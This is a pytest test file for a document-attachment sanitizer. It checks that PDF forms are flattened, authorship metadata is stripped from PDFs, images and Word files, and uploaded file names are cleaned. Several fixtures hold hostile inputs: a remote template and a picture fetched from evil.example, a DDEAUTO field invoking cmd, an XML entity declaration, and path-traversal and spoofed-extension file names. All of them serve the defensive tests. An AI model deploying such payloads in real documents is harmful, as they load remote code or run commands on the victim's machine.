"""Attachments are written anew: what was written and seen stays, what acts or tells who made it does not; nothing gets lost without a word."""

import struct
import zipfile
from io import BytesIO

import pytest
from django.core.exceptions import ValidationError
from docx import Document
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import FreeText, Highlight, Link, Text
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from consultations import attachments
from consultations.picture_metadata import without_metadata
from tests.consultations.test_sources import pdf, word

N, T = NameObject, TextStringObject


def clean(data: bytes, name: str = "a.pdf") -> bytes:
    return attachments.clean(name, data).data


def refused(data: bytes) -> str:
    with pytest.raises(ValidationError) as found:
        clean(data)
    assert found.value.messages[0]
    return found.value.code or ""


def words_of(data: bytes) -> str:
    return "\n".join(page.extract_text().strip() for page in PdfReader(BytesIO(data)).pages)


def changed(change, begin: bytes = b"") -> bytes:
    writer = PdfWriter(clone_from=PdfReader(BytesIO(begin or pdf([["A response of many words"]]))))
    change(writer)
    file = BytesIO()
    writer.write(file)
    return file.getvalue()


# -- forms and marks ---------------------------------------------------------------------------------
def look(words: str, wide: int = 200, high: int = 20) -> StreamObject:
    stream = StreamObject()
    font = DictionaryObject({N("/Type"): N("/Font"), N("/Subtype"): N("/Type1"), N("/BaseFont"): N("/Helvetica")})
    stream[N("/BBox")] = ArrayObject([FloatObject(n) for n in (0, 0, wide, high)])
    stream[N("/Subtype")] = N("/Form")
    stream[N("/Resources")] = DictionaryObject({N("/Font"): DictionaryObject({N("/F9"): font})})
    stream.set_data(f"BT /F9 11 Tf 2 5 Td ({words}) Tj ET".encode())
    return stream


def form(value: str = "Free meals for all", *, drawn: bool = True, stale: bool = False, parent: bool = False, **more):
    """A PDF with one text field, filled in."""

    def change(writer):
        field = DictionaryObject({
            N("/Type"): N("/Annot"), N("/Subtype"): N("/Widget"), N("/FT"): N("/Tx"), N("/T"): T("answer"), N("/V"): T(value),
            N("/Rect"): ArrayObject([FloatObject(n) for n in (50, 500, 450, 540)]), **{N(f"/{k}"): v for k, v in more.items()},
        })  # fmt: skip
        if drawn:
            field[N("/AP")] = DictionaryObject({N("/N"): writer._add_object(look(value))})
        if parent:
            above = writer._add_object(DictionaryObject({N("/V"): field.pop("/V"), N("/FT"): field.pop("/FT")}))
            field[N("/Parent")] = above
        reference = writer._add_object(field)
        writer.pages[0][N("/Annots")] = ArrayObject([reference])
        writer.root_object[N("/AcroForm")] = DictionaryObject(
            {N("/Fields"): ArrayObject([reference]), N("/NeedAppearances"): BooleanObject(stale)}
        )

    return changed(change)


def test_the_answers_of_a_form_become_part_of_its_page():
    data = clean(form())
    assert words_of(data).split("\n") == ["A response of many words", "Free meals for all"]
    page = PdfReader(BytesIO(data)).pages[0]
    assert "/Annots" not in page
    assert "/AcroForm" not in PdfReader(BytesIO(data)).root_object


def test_they_stand_where_they_stood_and_as_large():
    parts = PdfReader(BytesIO(clean(form()))).pages[0]["/Contents"]
    drawn = parts[-1].get_object().get_data().split()
    # a look of 200 by 20 in a place of 400 by 40, whose lower left corner lies at 50, 500
    assert drawn == b"Q q 2.0000 0.0000 0.0000 2.0000 50.0000 500.0000 cm /Mark0 Do Q".split()


@pytest.mark.parametrize(
    "how", [{"drawn": False}, {"stale": True}, {"drawn": False, "parent": True}, {"AS": N("/Yes"), "drawn": False}]
)
def test_answers_that_only_a_program_draws_are_refused_with_the_way_out(how):
    data = form(**how)
    assert refused(data) == "form"
    with pytest.raises(ValidationError, match="Save as PDF"):
        clean(data)


def test_a_form_that_is_not_filled_in_is_no_loss():
    assert words_of(clean(form(" ", drawn=False))) == "A response of many words"
    assert words_of(clean(form("hidden", F=NumberObject(2)))) == "A response of many words"


def test_a_form_of_another_program_inside_is_refused():
    def change(writer):
        writer.root_object[N("/AcroForm")] = DictionaryObject({N("/XFA"): T("<xdp>")})

    assert refused(changed(change)) == "form"


def test_a_ticked_box_is_drawn_and_an_empty_one_is_not():
    def box(state: str):
        def change(writer):
            looks = DictionaryObject({N("/Yes"): writer._add_object(look("ticked"))})
            one = DictionaryObject({
                N("/Subtype"): N("/Widget"), N("/FT"): N("/Btn"), N("/V"): N(state), N("/AS"): N(state), N("/AP"): DictionaryObject({N("/N"): looks}),
                N("/Rect"): ArrayObject([FloatObject(n) for n in (50, 500, 60, 510)]),
            })  # fmt: skip
            writer.pages[0][N("/Annots")] = ArrayObject([writer._add_object(one)])

        return changed(change)

    assert "ticked" in words_of(clean(box("/Yes")))
    assert "ticked" not in words_of(clean(box("/Off")))


def marked(note, **more) -> bytes:
    def change(writer):
        added = writer.add_annotation(0, note)
        for key, value in more.items():
            added[N(f"/{key}")] = writer._add_object(value) if isinstance(value, StreamObject) else value

    return changed(change)


PLACE = (50, 500, 250, 520)
CORNERS = ArrayObject([FloatObject(n) for n in (50, 520, 250, 520, 50, 500, 250, 500)])


def shown(words: str) -> DictionaryObject:
    return DictionaryObject({N("/N"): look(words)})


def test_what_somebody_wrote_on_a_page_stays_on_it():
    assert "written on it" in words_of(clean(marked(FreeText(text="x", rect=PLACE), AP=shown("written on it"))))
    assert "yellow" in words_of(clean(marked(Highlight(rect=PLACE, quad_points=CORNERS), AP=shown("yellow"))))


def test_links_go_and_their_words_stay():
    assert words_of(clean(marked(Link(rect=PLACE, url="https://evil.example")))) == "A response of many words"
    assert b"evil.example" not in clean(marked(Link(rect=PLACE, url="https://evil.example")))


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (marked(Text(text="A note beside the page", rect=PLACE), AP=shown("icon")), "notes"),
        (marked(Highlight(rect=PLACE, quad_points=CORNERS)), "notes"),
        (marked(FreeText(text="written on it", rect=PLACE), AP=DictionaryObject()), "notes"),
        (marked(Text(text="x", rect=PLACE), Subtype=N("/FileAttachment")), "embedded"),
    ],
)  # fmt: skip
def test_what_would_be_lost_is_refused(data, code):
    assert refused(data) == code


# -- who made it, where, with what ---------------------------------------------------------------------
def photo(kind: str = "JPEG") -> bytes:
    exif = Image.Exif()
    exif[0x013B] = "Asha Devi"
    exif.get_ifd(0x8825)[1] = "N"
    file = BytesIO()
    Image.effect_noise((64, 48), 80).convert("RGB").save(
        file, kind, exif=exif, **({"comment": b"Asha Devi"} if kind == "JPEG" else {})
    )
    return file.getvalue()


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
def test_a_picture_keeps_every_dot_and_loses_the_rest(kind):
    before = photo(kind)
    after = without_metadata(before)
    assert b"Asha" in before
    assert b"Asha" not in after
    assert dict(Image.open(BytesIO(after)).getexif()) == {}
    assert Image.open(BytesIO(after)).tobytes() == Image.open(BytesIO(before)).tobytes()
    assert without_metadata(after) == after


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
def test_a_damaged_picture_neither_fails_nor_grows(kind):
    whole = photo(kind)
    for end in range(0, len(whole), 7):
        assert len(without_metadata(whole[:end])) <= end
    assert without_metadata(b"\xff\xd8" + b"\xff" * 1000) is not None
    assert without_metadata(b"\xff\xd8\xff\xe1\x00\x00" + bytes(100)) is not None
    assert without_metadata(b"\x89PNG\r\n\x1a\n" + struct.pack(">I4s", 2**32 - 1, b"tEXt") + bytes(50)) is not None


def with_traces() -> bytes:
    """A PDF that names its author in every place it can, with a photo and private data of a program."""

    def change(writer):
        writer.add_metadata({"/Author": "Asha Devi", "/Creator": "Secret Office 9"})
        said = StreamObject()
        said.set_data(b"<rdf>Asha Devi</rdf>")
        writer.root_object[N("/Metadata")] = writer._add_object(said)
        page = writer.pages[0]
        page[N("/Metadata")] = writer._add_object(said)
        private = StreamObject()
        private.set_data(b"Asha Devi drew this")
        inside = DictionaryObject(
            {N("/Private"): writer._add_object(DictionaryObject({N("/Data"): writer._add_object(private)}))}
        )
        picture = StreamObject()
        picture.set_data(photo())
        for key, value in {"Type": N("/XObject"), "Subtype": N("/Image"), "Filter": N("/DCTDecode"), "Width": NumberObject(64), "Height": NumberObject(48),
                           "ColorSpace": N("/DeviceRGB"), "BitsPerComponent": NumberObject(8), "Metadata": writer._add_object(said),
                           "PieceInfo": writer._add_object(DictionaryObject({N("/Program"): inside}))}.items():  # fmt: skip
            picture[N(f"/{key}")] = value
        page["/Resources"][N("/XObject")] = DictionaryObject({N("/Photo"): writer._add_object(picture)})

    return changed(change)


def test_a_pdf_does_not_say_who_made_it():
    before, after = with_traces(), clean(with_traces())
    assert before.count(b"Asha") >= 4
    assert b"Asha" not in after
    reader = PdfReader(BytesIO(after))
    assert reader.metadata is None
    assert reader.xmp_metadata is None
    [picture] = reader.pages[0].images
    assert picture.image.size == (64, 48)


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(data)) as whole:
        assert whole.testzip() is None
        return {name: whole.read(name) for name in whole.namelist()}


COMMENT = b'<w:comments xmlns:w="x"><w:comment w:id="1" w:author="Asha Devi" w:initials="AD" w:date="2026-01-01"><w:t>No author="x" here</w:t></w:comment></w:comments>'
CHANGE = b"<w:ftr xmlns:w='x'><w:ins w:author='Asha Devi'><w:t>new words</w:t></w:ins></w:ftr>"


def test_a_word_file_does_not_say_who_made_and_changed_it():
    def named(document):
        document.core_properties.author = document.core_properties.last_modified_by = "Asha Devi"
        document.add_picture(BytesIO(photo()))

    extra = {
        "word/comments.xml": COMMENT, "word/footer9.xml": CHANGE,
        "docProps/custom.xml": b"<Properties>Asha Devi</Properties>", "word/people.xml": b'<w15:person w15:author="Asha Devi"/>',
    }  # fmt: skip
    before, cleaned = word(named, extra), attachments.clean("a.docx", word(named, extra)).data
    assert any(b"Asha" in part for part in parts_of(before).values())
    after = parts_of(cleaned)
    assert [name for name, part in after.items() if b"Asha" in part] == []
    assert set(after) == set(parts_of(before))
    assert b'<w:t>No author="x" here</w:t>' in after["word/comments.xml"]
    assert b"new words" in after["word/footer9.xml"]
    document = Document(BytesIO(cleaned))
    assert [p.text for p in document.paragraphs][:2] == ["School Meals Rules", "1. Short title"]
    assert document.core_properties.author == ""
    assert b"Application" in parts_of(before)["docProps/app.xml"]
    assert b"Application" not in after["docProps/app.xml"]


# -- what a Word file may not hold ----------------------------------------------------------------------
REL = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship %s/></Relationships>'
KINDS = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


@pytest.mark.parametrize(
    ("part", "content", "code"),
    [
        ("word/_rels/a.xml.rels", REL % (b'TargetMode="External" Type="' + KINDS + b'attachedTemplate" Target="http://evil.example/a.dotm"'), "external"),
        ("word/_rels/a.xml.rels", REL % (b"Type='" + KINDS + b"image' Target='http://evil.example/seen.png' TargetMode='External'"), "external"),
        ("WORD/_RELS/A.XML.RELS", REL % (b'Type="' + KINDS + b'frame" TargetMode = "External"'), "external"),
        ("word/_rels/a.xml.rels", b" " * 2_000_000 + REL % (b'Type="' + KINDS + b'oleObject" TargetMode="External"'), "external"),
        ("word/_rels/a.xml.rels", REL % (b"Id='Type=\"a/hyperlink\"' TargetMode='&#69;xternal' Type='" + KINDS + b"attachedTemplate'"), "external"),
        ("word/_rels/a.xml.rels", REL[:-5], "broken"),
        ("word/a.xml", b"<w:instrText>&#68;DEAUTO c:</w:instrText>", "external"),
        ("word/a.xml", b"<?xml version='1.0' encoding='utf-7'?><a/>", "broken"),
        ("word/_rels/a.xml.rels", REL % (b'Type="' + KINDS + b'aFChunk" Target="a.mht"'), "embedded"),
        ("word/_rels/a.xml.rels", REL % (b'Type="' + KINDS + b'package" Target="a.bin"'), "embedded"),
        ("word/embeddings/a.bin", b"x", "embedded"),
        ("word/a.xml", b"<w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO c:\\\\cmd</w:instrText>", "external"),
        ("word/a.xml", b'<w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example/a.png"/>', "external"),
        ("word/a.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "broken"),
        ("word/a.xml", "<a/>".encode("utf-16"), "broken"),
    ],
)  # fmt: skip
def test_a_word_file_that_loads_or_brings_something_is_refused(part, content, code):
    assert refused(word(extra={part: content})) == code


def test_a_link_in_a_word_file_is_no_harm():
    link = REL % (b'Type="' + KINDS + b'hyperlink" Target="https://example.org/dde link" TargetMode="External"')
    field = b'<a><w:instrText>HYPERLINK "https://example.org/import"</w:instrText></a>'
    after = parts_of(attachments.clean("a.docx", word(extra={"word/_rels/a.xml.rels": link, "word/a.xml": field})).data)
    assert after["word/_rels/a.xml.rels"] == link


# -- names -----------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("given", "kept"),
    [("पत्र.pdf", "पत्र.pdf"), ("../../résumé <b>.pdf", "résumé b.pdf"), ("C:\\letters\\a.b.pdf", "ab.pdf"), (".pdf", "response.pdf"),
     ("\u202efdp.exe", "fdp.pdf"), ("x" * 1000 + ".pdf", "x" * 80 + ".pdf"), ("letter", "letter.pdf"), ("a\x00b\r\n.pdf", "ab.pdf")],
)  # fmt: skip
def test_a_files_name_is_words_and_the_ending_of_what_it_is(given, kept):
    assert attachments.clean(given, pdf([["x"]])).name == kept
